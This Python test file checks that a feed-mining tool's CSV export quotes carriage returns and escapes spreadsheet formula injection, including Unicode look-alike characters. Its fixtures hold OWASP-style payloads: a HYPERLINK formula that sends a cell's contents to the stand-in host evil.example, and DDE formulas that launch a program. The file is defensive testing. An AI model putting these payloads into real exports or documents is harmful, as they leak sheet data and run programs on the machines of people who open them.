"""`miner query --format csv` and spreadsheets: each row of the store is one row of the file, whatever its text,
and a text a spreadsheet would run as a formula is written as text unless --csv-raw asks for it as stored."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

from click.testing import CliRunner

from miner.cli import main
from miner.cli.output import FORMULA_FIRST
from miner.records import Post
from miner.store import Store

ROOT = Path(__file__).resolve().parent.parent


def _store(tmp_path: Path, texts: tuple[str, ...]) -> Path:
    db = tmp_path / "m.sqlite"
    s = Store.open(db)
    at = datetime(2026, 1, 1, tzinfo=UTC)
    s.insert_posts([Post("feed", str(i), text, at, services=("GitHub",)) for i, text in enumerate(texts)], at)
    s.close()
    return db


def _csv(runner: CliRunner, db: Path, sql: str, *args: str) -> list[list[str]]:
    result = runner.invoke(main, ["--config", str(ROOT / "feeds.toml"), "--db", str(db), "query", "--format", "csv",
                                  *args, sql])
    assert result.exit_code == 0, result.output
    # The bytes: click's Result.stdout writes "\r\n" as "\n".
    return list(csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")))


def test_query_csv_quotes_a_carriage_return_so_the_row_stays_one(runner: CliRunner, tmp_path: Path) -> None:
    # A text's carriage return was written bare (only a "\n" made the writer quote a cell): a spreadsheet ends the
    # row there, and what followed began a row of its own; Python's csv reader refused the file.
    db = _store(tmp_path, ("WhatsApp down",))
    rows = _csv(runner, db, "SELECT text || char(13) || 'next row' AS t, 'a' || char(13) || char(10) || 'b' AS u, "
                            "-1.5 AS z FROM posts")
    assert rows == [["t", "u", "z"], ["WhatsApp down\rnext row", "a\r\nb", "-1.5"]]


# Posts as strangers write them: the OWASP examples (a link sending the sheet's cells away, DDE running a program),
# one per character a spreadsheet starts a formula with.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PLAIN = ("WhatsApp down again - cannot send = broken", "'quoted already", "")
# Cells of the query's own making beside each post: negative numbers (a z-score), numbers written as text, and the
# triggers behind spaces, a tab and a carriage return.
SQL = ("SELECT text, -1.5 AS z, -3 AS delta, printf('%.2f', -2.5) AS shown, '+1e3' AS exp, '  =1+1' AS spaced, "
       "char(9) || 'x' AS tab, char(13) || '=1+1' AS cr, '-' AS dash FROM posts ORDER BY id")


def test_query_csv_writes_a_formula_in_post_text_as_text_and_numbers_as_they_are(runner: CliRunner,
                                                                                 tmp_path: Path) -> None:
    # A post starting with = (+, -, @) was written as stored, and a spreadsheet opening the csv ran it: the operator's
    # sheet sent to a stranger's server, or a program started.
    db = _store(tmp_path, (*FORMULAS, *PLAIN))
    header, *rows = _csv(runner, db, SQL)
    assert header == ["text", "z", "delta", "shown", "exp", "spaced", "tab", "cr", "dash"]
    assert [row[0] for row in rows] == [*("'" + text for text in FORMULAS), *PLAIN]
    for row in rows:
        assert row[1:] == ["-1.5", "-3", "-2.50", "+1e3", "'  =1+1", "'\tx", "'\r=1+1", "'-"]


# The same, with a character that Unicode's compatibility normalisation (NFKC), as a spreadsheet may read a cell, makes
# one a formula starts with: the full-width ones Chinese and Japanese input methods type, the small ones, after a space
# (an ideographic one too). A full-width minus before a number is no number a spreadsheet reads as one.
LOOKALIKES = ('\uff1dHYPERLINK("http://evil.example/?"&A1,"click")', "\uff0b1+cmd|' /C calc'!A0",
              "\uff0d2+3+cmd|' /C calc'!A0", "\uff20SUM(1+1)", "\ufe66cmd|' /C calc'!A0", "\u3000\uff1d1+1",
              " \u207c1+1", "\u208c1", "\u2a752", "\ufe621", "\ufe63\uff11", "\ufe6bx", "\u207a1", "\u208a1",
              "\ufb291", "\u2a76x", "\uff0d1.5")


def test_query_csv_writes_a_formula_that_starts_with_a_look_alike_as_text(runner: CliRunner, tmp_path: Path) -> None:
    # "＝HYPERLINK(...)" was written as stored: a spreadsheet that reads "＝" as "=" sends the sheet away.
    db = _store(tmp_path, (*LOOKALIKES, "\u2212 a minus sign, ＝ inside, ＠alice", "\u3000 an ideographic space"))
    texts = [row[0] for row in _csv(runner, db, "SELECT text FROM posts ORDER BY id")[1:]]
    assert texts == [*("'" + text for text in LOOKALIKES), "\u2212 a minus sign, ＝ inside, ＠alice",
                     "\u3000 an ideographic space"]
    # Each character NFKC makes one a formula starts with is one of them.
    folded = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c))[:1] in FORMULA_FIRST}
    assert folded == FORMULA_FIRST


def test_query_csv_raw_writes_every_text_as_stored(runner: CliRunner, tmp_path: Path) -> None:
    db = _store(tmp_path, (*FORMULAS, *PLAIN))
    rows = _csv(runner, db, SQL, "--csv-raw")[1:]
    assert [row[0] for row in rows] == [*FORMULAS, *PLAIN]
    for row in rows:
        assert row[1:] == ["-1.5", "-3", "-2.50", "+1e3", "  =1+1", "\tx", "\r=1+1", "-"]
    refused = runner.invoke(main, ["--config", str(ROOT / "feeds.toml"), "--db", str(db), "query", "--format", "json",
                                   "--csv-raw", SQL])
    assert refused.exit_code == 2 and "--csv-raw" in refused.output and "--format csv only" in refused.output
